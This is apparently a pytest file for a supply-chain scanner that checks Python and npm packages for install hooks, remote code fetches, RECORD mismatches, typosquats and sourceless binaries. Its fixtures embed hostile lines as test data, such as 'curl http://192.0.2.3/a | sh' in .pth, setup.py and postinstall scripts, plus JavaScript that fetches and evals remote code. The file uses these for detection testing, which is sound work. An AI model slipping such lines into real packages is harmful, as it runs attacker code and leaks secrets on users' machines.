"""Whole-artifact checks: install surface, RECORD, binaries, metadata, nested sample zips."""

from __future__ import annotations

import base64
import hashlib
import json

from app.core.archive import open_artifact
from app.core.capabilities.model import severity_rank
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import (
    compress,
    make_npm_tarball,
    make_sample_zip,
    make_sdist,
    make_wheel,
    tar_bytes,
    wheel_entries,
    zip_bytes,
)


def found(path) -> dict[str, str]:
    res = scan_artifact(open_artifact(path))
    out: dict[str, str] = {}
    for h in res.findings:
        if severity_rank(h.severity) > severity_rank(out.get(h.capability, "none")):
            out[h.capability] = h.severity
    return out


def test_pth_import_line_is_high_and_its_code_is_analysed(tmp_path):
    sd = make_sdist(
        tmp_path, files={"evil.pth": b"import os; os.system('curl http://192.0.2.3/a | sh')\n"}
    )
    caps = found(sd)
    assert caps["install.pth_hook"] == "high"
    assert caps["process.shell_download"] == "high"


def test_plain_pth_paths_are_not_a_hook(tmp_path):
    sd = make_sdist(tmp_path, files={"paths.pth": b"./vendor\n"})
    assert "install.pth_hook" not in found(sd)


def test_sitecustomize_runs_at_every_start(tmp_path):
    """Shipping a sitecustomize is shown; it is a threat only when it acts (coverage and
    OpenTelemetry ship ones that just import themselves)."""
    quiet = make_sdist(tmp_path, files={"sitecustomize.py": b"print('hi')\n"})
    assert found(quiet)["install.pth_hook"] == "medium"
    assert not scan_artifact(open_artifact(quiet)).threats
    (tmp_path / "acts").mkdir()
    acts = make_sdist(
        tmp_path / "acts",
        files={
            "sitecustomize.py": b"import urllib.request\nurllib.request.urlopen('http://192.0.2.8/')\n"
        },
    )
    result = scan_artifact(open_artifact(acts))
    assert result.risk.level in ("high", "critical")
    assert "place.install_time" in {t.id for t in result.threats}


def test_in_tree_build_backend_is_flagged_but_setuptools_is_not(tmp_path):
    custom = make_sdist(
        tmp_path,
        name="a",
        files={
            "pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": b"import requests\nrequests.get('https://example.invalid')\n",
        },
    )
    caps = found(custom)
    assert caps["install.build_backend"] == "medium" and caps["net.outbound"] == "high"
    normal = make_sdist(
        tmp_path,
        name="b",
        files={
            "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
        },
    )
    assert "install.build_backend" not in found(normal)


def test_console_script_shadowing_a_system_command(tmp_path):
    sd = make_sdist(
        tmp_path,
        name="a",
        files={"pyproject.toml": b'[project]\nname = "a"\n[project.scripts]\npip = "a.cli:main"\n'},
    )
    assert found(sd)["install.entrypoint_shadow"] == "medium"
    ok = make_sdist(
        tmp_path,
        name="b",
        files={
            "pyproject.toml": b'[project]\nname = "b"\n[project.scripts]\nb-tool = "b.cli:main"\n'
        },
    )
    assert "install.entrypoint_shadow" not in found(ok)


def test_npm_install_scripts(tmp_path):
    evil = make_npm_tarball(
        tmp_path, name="pkg-a", scripts={"postinstall": "curl http://203.0.113.8/x.sh | sh"}
    )
    caps = found(evil)
    assert caps["install.script_hook"] == "high" and caps["process.shell_download"] == "high"
    benign = make_npm_tarball(tmp_path, name="pkg-b", scripts={"test": "jest", "build": "tsc"})
    assert "install.script_hook" not in found(benign)


def test_npm_url_dependency_and_js_patterns(tmp_path):
    doc = {
        "name": "pkg-c",
        "version": "1.0.0",
        "dependencies": {"x": "git+https://example.invalid/x.git", "y": "^1.0.0"},
    }
    raw = tar_bytes(
        [
            ("package/package.json", json.dumps(doc).encode()),
            (
                "package/index.js",
                b"const cp = require('child_process'); cp.execSync('git status');\n"
                b"fetch('https://example.invalid').then(r => r.text()).then(t => eval(t));\n"
                b"require('https').get('https://example.invalid');\n"
                b"const d = JSON.stringify(process.env);\n",
            ),
        ]
    )
    p = tmp_path / "pkg-c-1.0.0.tgz"
    p.write_bytes(compress(raw, "gz"))
    caps = found(p)
    assert caps["meta.url_dependency"] == "high"
    assert "process.spawn" in caps and "cred.env_bulk" in caps and "net.outbound" in caps


def test_wheel_record_mismatch(tmp_path):
    entries = wheel_entries("demo", "1.0", {"demo/x.py": b"X = 1\n"})
    good_hash = base64.urlsafe_b64encode(hashlib.sha256(b"X = 1\n").digest()).rstrip(b"=").decode()
    entries["demo-1.0.dist-info/RECORD"] = (
        f"demo/x.py,sha256={good_hash},6\n"
        "demo/__init__.py,,\ndemo-1.0.dist-info/METADATA,,\n"
        "demo-1.0.dist-info/WHEEL,,\ndemo-1.0.dist-info/RECORD,,\n"
    ).encode()
    ok = tmp_path / "demo-1.0-py3-none-any.whl"
    ok.write_bytes(zip_bytes(entries))
    assert "install.record_mismatch" not in found(ok)
    entries["demo/x.py"] = b"import os\n"
    entries["demo/added.py"] = b"Y = 2\n"
    bad = tmp_path / "bad" / "demo-1.0-py3-none-any.whl"
    bad.parent.mkdir()
    bad.write_bytes(zip_bytes(entries))
    res = scan_artifact(open_artifact(bad))
    rules = {h.rule for h in res.findings if h.capability == "install.record_mismatch"}
    assert {"whl.record_hash", "whl.record_unlisted"} <= rules


def test_bundled_binaries_and_pyc_without_source(tmp_path):
    sd = make_sdist(
        tmp_path,
        name="a",
        files={
            "a/tool.exe": b"MZ\x90\x00" + b"\x00" * 64,
            # sourceless in the module's own place: Python imports it (a __pycache__ file
            # without its source is never imported, see test_popular_false_alarm_classes_6)
            "a/core.pyc": b"\xa7\r\r\n" + b"\x00" * 30,
        },
    )
    caps = found(sd)
    assert caps["artifact.binary"] == "medium" and caps["obf.packer"] == "high"
    with_src = make_sdist(
        tmp_path,
        name="b",
        files={
            "b/core.py": b"X = 1\n",
            "b/__pycache__/core.cpython-311.pyc": b"\xa7\r\r\n" + b"\x00" * 30,
        },
    )
    caps = found(with_src)
    assert "obf.packer" not in caps and "artifact.binary" not in caps


def test_typosquat_and_empty_description(tmp_path):
    sd = make_sdist(tmp_path, name="reqeusts")
    assert found(sd)["meta.typosquat"] == "medium"
    assert "meta.typosquat" not in found(make_sdist(tmp_path, name="requests"))
    assert "meta.typosquat" not in found(make_sdist(tmp_path, name="totally-unique-name"))
    empty = tmp_path / "e"
    empty.mkdir()
    sd = make_sdist(
        empty,
        name="zzz-empty",
        files={"PKG-INFO": b"Metadata-Version: 2.1\nName: zzz-empty\nVersion: 1.0\n"},
    )
    assert found(sd)["meta.empty_description"] == "low"


def test_url_dependency_in_metadata(tmp_path):
    head = b"Metadata-Version: 2.1\nName: a\nVersion: 1.0\nSummary: x\nRequires-Dist: "
    repo = head + b"evil @ git+https://example.invalid/evil.git\n\nbody\n"
    assert (
        found(make_sdist(tmp_path, name="a", files={"PKG-INFO": repo}))["meta.url_dependency"]
        == "medium"  # a repository alone; a bare IP, paste or tunnel host is high
    )
    # a package file from a server that is no code forge (test_evasion_places)
    archive = head + b"evil @ https://example.invalid/evil-1.0.tar.gz\n\nbody\n"
    (tmp_path / "c").mkdir()
    assert (
        found(make_sdist(tmp_path / "c", name="a", files={"PKG-INFO": archive}))[
            "meta.url_dependency"
        ]
        == "high"
    )
    assert "meta.url_dependency" not in found(make_sdist(tmp_path, name="b"))


def test_sample_zip_is_scanned_through_to_the_inner_artifact(tmp_path):
    inner = make_sdist(
        tmp_path,
        name="evilpkg",
        files={
            "setup.py": b"import os\nfrom setuptools import setup\nos.system('curl http://198.51.100.2/x | sh')\nsetup(name='evilpkg')\n"
        },
    )
    sample = make_sample_zip(tmp_path, inner)
    res = scan_artifact(open_artifact(sample))
    assert res.risk.level in ("high", "critical")
    assert res.target["name"] == "evilpkg"
    assert any(
        h.path.endswith("setup.py") and h.capability == "install.setup_code" for h in res.findings
    )


def test_minified_and_dist_files_are_scanned(tmp_path):
    raw = tar_bytes(
        [
            ("package/package.json", b'{"name": "m", "version": "1.0.0"}'),
            ("package/dist/app.min.js", b"var a=1;" * 2000 + b"eval(atob('YWxlcnQoMSk='));"),
        ]
    )
    p = tmp_path / "m-1.0.0.tgz"
    p.write_bytes(compress(raw, "gz"))
    assert found(p)["exec.decode_then_exec"] == "critical"


def test_clean_package_has_no_risk(tmp_path):
    res = scan_artifact(open_artifact(make_wheel(tmp_path)))
    assert res.risk.level in ("none", "low") and not res.errors
    assert res.files_scanned >= 3


def test_description_copied_from_a_popular_package(tmp_path):
    pkg = b"Metadata-Version: 2.1\nName: reqeusts-helper\nVersion: 1.0\nSummary: x\n\n# Requests\n\nHTTP for humans.\n"
    res = scan_artifact(
        open_artifact(make_sdist(tmp_path, name="reqeusts-helper", files={"PKG-INFO": pkg}))
    )
    assert any(
        h.rule == "meta.copied_description" and "requests" in h.explanation for h in res.findings
    )
    own = (
        b"Metadata-Version: 2.1\nName: requests\nVersion: 1.0\nSummary: x\n\n# Requests\n\nHTTP.\n"
    )
    res = scan_artifact(
        open_artifact(make_sdist(tmp_path, name="requests", files={"PKG-INFO": own}))
    )
    assert not any(h.rule == "meta.copied_description" for h in res.findings)


def test_the_same_file_twice_in_one_package_is_reported_at_both_paths(tmp_path, monkeypatch):
    """Vendored copies are analysed once, but every copy gets its hits at its own path, and a
    copy in another role (tests/) keeps its own severity."""
    from app.core.capabilities import scan as scan_mod

    code = b"import os\nos.system('curl http://192.0.2.9/x | sh')\n"
    art = make_sdist(
        tmp_path,
        name="dup",
        files={"dup/a.py": code, "dup/_vendor/a.py": code, "tests/test_a.py": code},
    )
    analysed = []
    real = scan_mod._scan_file
    monkeypatch.setattr(
        scan_mod, "_scan_file", lambda path, *a: analysed.append(path) or real(path, *a)
    )
    res = scan_artifact(open_artifact(art))
    assert "dup/_vendor/a.py" not in analysed and "dup/a.py" in analysed

    def hits(path):
        return sorted(
            (h.capability, h.severity, h.line, h.rule) for h in res.findings if h.path == path
        )

    assert hits("dup/a.py") == hits("dup/_vendor/a.py") != []
    assert hits("tests/test_a.py") != hits("dup/a.py")  # tests/ lowers a step


def _npm_with_config(tmp_path, config_json: str):
    """A package.json with a postinstall hook and a ``config`` nested as deep as asked."""
    text = (
        '{"name": "deep-cfg", "version": "1.0.0", "scripts": {"postinstall": '
        '"curl http://192.0.2.5/i | sh"}, "config": ' + config_json + "}"
    )
    raw = tar_bytes(
        [
            ("package/package.json", text.encode()),
            ("package/index.js", b"module.exports = 1;\n"),
        ]
    )
    p = tmp_path / "deep-cfg-1.0.0.tgz"
    p.write_bytes(compress(raw, "gz"))
    return p


def test_a_package_json_nested_100000_deep_is_unread_and_high_not_a_crash(tmp_path):
    res = scan_artifact(open_artifact(_npm_with_config(tmp_path, "[" * 100_000 + "]" * 100_000)))
    assert not res.errors
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert [h.path for h in unread] == ["package.json"]
    assert "nested deeper" in unread[0].explanation
    assert severity_rank(res.risk.level) >= severity_rank("high")


def test_a_deep_config_does_not_hide_the_install_scripts_beside_it(tmp_path):
    caps = found(_npm_with_config(tmp_path, "[" * 300 + "]" * 300))
    assert caps["install.script_hook"] == "high"
    assert "scan.unread" not in caps
